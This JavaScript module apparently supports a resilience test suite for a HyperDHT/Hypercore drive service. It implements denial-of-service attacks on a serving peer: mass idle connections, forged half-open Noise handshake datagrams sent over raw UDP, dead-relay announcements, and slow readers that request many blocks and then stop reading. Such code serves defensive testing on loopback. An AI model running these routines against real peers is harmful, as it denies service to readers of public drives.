// Attacks on the service of a peer: what others can do so that it serves nobody else. None of them needs a key of the drive,
// but for the readers, who have its link.
import dgram from 'node:dgram'
import DHT from 'hyperdht'
import Protomux from 'protomux'
import NoiseWrap from 'hyperdht/lib/noise-wrap.js'
import dhtMessages from 'hyperdht/lib/messages.js'
import coreMessages from 'hypercore/lib/messages.js'
import caps from 'hypercore/lib/caps.js'
import crypto from 'hypercore-crypto'
import c from 'compact-encoding'
import b4a from 'b4a'
import { Intruder } from './hostile.mjs'
import { LOOPBACK, waitFor } from './net.mjs'

/** The key and the addresses of the first peer on a topic. */
export async function find(bootstrap, topic) {
  let found = null
  const intruder = new Intruder(bootstrap, (conn) => {
    found ??= { publicKey: conn.remotePublicKey, address: { host: conn.rawStream.remoteHost, port: conn.rawStream.remotePort } }
  }, { server: false })
  await intruder.join(topic)
  await waitFor(() => found, { what: () => 'the peer to attack' })
  await intruder.close()
  return found
}

/** A DHT node for an attacker. */
export function attacker(t, bootstrap) {
  const dht = new DHT({ bootstrap, host: LOOPBACK })
  t.after(() => dht.destroy({ force: true }))
  return dht
}

/** `count` connections with a key each, that are opened and then do nothing. */
export async function idlers(dht, publicKey, count) {
  const open = []
  for (let i = 0; i < count; i += 20) {
    await Promise.all(Array.from({ length: Math.min(20, count - i) }, () => new Promise((resolve) => {
      const conn = dht.connect(publicKey, { keyPair: DHT.keyPair() })
      conn.on('error', resolve).on('close', resolve).on('open', () => {
        open.push(conn)
        resolve()
      })
    })))
  }
  return open
}

/** Handshakes that nobody will finish, as the bytes of one datagram each. `relayed`: as if a relay passed them on. */
export function handshakes(publicKey, to, count, { relayed = false } = {}) {
  const target = crypto.hash(publicKey)
  return Array.from({ length: count }, (_, i) => {
    const wrap = new NoiseWrap(DHT.keyPair(), publicKey)
    const noise = wrap.send({
      version: 1, error: 0, firewall: relayed ? 1 : 0, holepunch: null, addresses4: [], addresses6: [],
      udx: { version: 1, reusableSocket: false, id: i + 1, seq: 0 }, secretStream: { version: 1 }, relayThrough: null, relayAddresses: null
    })
    const peerAddress = relayed ? { host: LOOPBACK, port: 1024 + (i % 60_000) } : null
    const value = c.encode(dhtMessages.handshake, { mode: relayed ? 2 : 0, noise, peerAddress, relayAddress: null })
    const head = b4a.alloc(10)
    head[0] = 0x03
    head[1] = 8 | 16
    head.writeUInt16LE(i & 0xffff, 2)
    to.host.split('.').forEach((n, j) => { head[4 + j] = Number(n) })
    head.writeUInt16LE(to.port, 8)
    return b4a.concat([head, b4a.from([0]), target, c.encode(c.buffer, value)])
  })
}

/** Sends datagrams from a socket that reads nothing. */
export async function burst(to, datagrams) {
  const socket = dgram.createSocket('udp4')
  for (const d of datagrams) await new Promise((resolve) => socket.send(d, to.port, to.host, resolve))
  await new Promise((resolve) => socket.close(resolve))
}

/** Announces `count` keys on a topic whose relays take everything and answer nothing. */
export async function deadAnnounces(t, dht, topic, count) {
  const relays = await Promise.all(Array.from({ length: 3 }, async () => {
    const socket = dgram.createSocket('udp4')
    await new Promise((resolve) => socket.bind(0, LOOPBACK, resolve))
    t.after(() => socket.close())
    return { host: LOOPBACK, port: socket.address().port }
  }))
  for (let i = 0; i < count; i++) await dht.announce(topic, DHT.keyPair(), relays).finished()
}

/** Connections that ask for every block of a core, take what comes first and then read nothing any more. */
export async function slowReaders(dht, publicKey, key, length, count) {
  const conns = await idlers(dht, publicKey, count)
  const m = coreMessages.wire
  for (const conn of conns) {
    const mux = Protomux.from(conn)
    const channel = mux.createChannel({
      protocol: 'hypercore/alpha',
      id: crypto.discoveryKey(key),
      handshake: m.handshake,
      messages: [m.sync, m.request].map((encoding) => ({ encoding, onmessage() {} })),
      onopen() {
        channel.messages[0].send({ fork: 0, length: 0, remoteLength: 0, canUpgrade: false, uploading: false, downloading: true, hasManifest: false, allowPush: false })
        const ask = (id, block, upgrade) => channel.messages[1].send({ id, fork: 0, block, hash: null, seek: null, upgrade, manifest: false, priority: 0 })
        for (let i = 0; i < Math.min(length, 500); i++) ask(i + 1, { index: i, nodes: 0 }, i === 0 ? { start: 0, length } : null)
        setTimeout(() => conn.rawStream.pause(), 50)
      }
    })
    channel?.open({ seeks: true, capability: caps.replicate(conn.isInitiator, key, conn.handshakeHash) })
  }
  return conns
}

